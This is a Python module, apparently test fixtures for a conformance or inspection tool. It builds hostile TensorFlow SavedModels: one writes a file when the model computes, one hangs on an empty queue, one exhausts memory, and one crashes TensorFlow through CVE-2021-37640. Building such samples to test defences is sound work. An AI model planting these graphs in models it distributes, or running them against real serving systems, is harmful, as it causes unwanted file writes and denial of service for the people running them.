"""Makes models that do harm when they compute, from their messages: no TensorFlow is needed for that."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from conformance.inspecting import messages

FLOAT, INT32, STRING, INT64 = 1, 3, 7, 9  # of the enum DataType
_LARGEST = 2**40  # floats; no machine has so many


def write_hostile(folder: Path, add: Callable[[Any], None]) -> None:
    """Writes a TF1 SavedModel that adds to its input the number that the node "evil" gives, which `add` adds."""
    saved = messages.message_class(messages.SAVED_MODEL)()
    saved.saved_model_schema_version = 1
    graph = saved.meta_graphs.add()
    graph.meta_info_def.tags.append("serve")
    graph.graph_def.versions.producer = 27
    x = graph.graph_def.node.add(name="x", op="Placeholder")
    x.attr["dtype"].type = FLOAT
    x.attr["shape"].shape.dim.add(size=-1)
    add(graph.graph_def)
    y = graph.graph_def.node.add(name="y", op="Add", input=["x", "evil"])
    y.attr["T"].type = FLOAT
    signature = graph.signature_def["serving_default"]
    signature.method_name = "tensorflow/serving/predict"
    for ends, name in ((signature.inputs, "x"), (signature.outputs, "y")):
        ends[name].name, ends[name].dtype = f"{name}:0", FLOAT
        ends[name].tensor_shape.dim.add(size=-1)
    folder.mkdir(parents=True)
    (folder / "saved_model.pb").write_bytes(saved.SerializeToString())


def writes(path: Path) -> Callable[[Any], None]:
    """Writes a file."""

    def add(graph: Any) -> None:
        _text(graph, "path", str(path))
        _text(graph, "content", "harm")
        graph.node.add(name="write", op="WriteFile", input=["path", "content"])
        _number(graph, "zero")
        graph.node.add(name="evil", op="Identity", input=["zero", "^write"]).attr["T"].type = FLOAT

    return add


def hangs(graph: Any) -> None:
    """Waits for what nobody puts into a queue."""
    queue = graph.node.add(name="queue", op="FIFOQueueV2")
    queue.attr["component_types"].list.type.append(FLOAT)
    evil = graph.node.add(name="evil", op="QueueDequeueV2", input=["queue"])
    evil.attr["component_types"].list.type.append(FLOAT)


def fills_the_memory(graph: Any) -> None:
    """Asks for four terabytes: TensorFlow aborts."""
    _numbers(graph, "dims", INT64, [_LARGEST])
    _number(graph, "value")
    fill = graph.node.add(name="fill", op="Fill", input=["dims", "value"])
    fill.attr["T"].type, fill.attr["index_type"].type = FLOAT, INT64
    _sum(graph, "fill", FLOAT)


def crashes(graph: Any) -> None:
    """Divides by zero in TensorFlow itself, which 1.15 does not guard against (CVE-2021-37640)."""
    _numbers(graph, "indices", INT64, [[1, 1, 1]])
    _numbers(graph, "shape", INT64, [1, 1, 0])
    _numbers(graph, "new", INT64, [1, 0])
    graph.node.add(name="reshape", op="SparseReshape", input=["indices", "shape", "new"])
    cast = graph.node.add(name="cast", op="Cast", input=["reshape:1"])
    cast.attr["SrcT"].type, cast.attr["DstT"].type = INT64, FLOAT
    _sum(graph, "cast", FLOAT)


def _sum(graph: Any, name: str, dtype: int) -> None:
    """The number "evil"."""
    _numbers(graph, "axis", INT32, [0])
    evil = graph.node.add(name="evil", op="Sum", input=[name, "axis"])
    evil.attr["T"].type, evil.attr["Tidx"].type = dtype, INT32


def _number(graph: Any, name: str) -> None:
    node = graph.node.add(name=name, op="Const")
    node.attr["dtype"].type = node.attr["value"].tensor.dtype = FLOAT
    node.attr["value"].tensor.float_val.append(1)
    node.attr["value"].tensor.tensor_shape.SetInParent()


def _text(graph: Any, name: str, text: str) -> None:
    node = graph.node.add(name=name, op="Const")
    node.attr["dtype"].type = node.attr["value"].tensor.dtype = STRING
    node.attr["value"].tensor.string_val.append(text.encode())
    node.attr["value"].tensor.tensor_shape.SetInParent()


def _numbers(graph: Any, name: str, dtype: int, numbers: list[Any]) -> None:
    array = np.array(numbers, np.int32 if dtype == INT32 else np.int64)
    node = graph.node.add(name=name, op="Const")
    node.attr["dtype"].type = node.attr["value"].tensor.dtype = dtype
    node.attr["value"].tensor.tensor_content = array.tobytes()
    for size in array.shape:
        node.attr["value"].tensor.tensor_shape.dim.add(size=size)
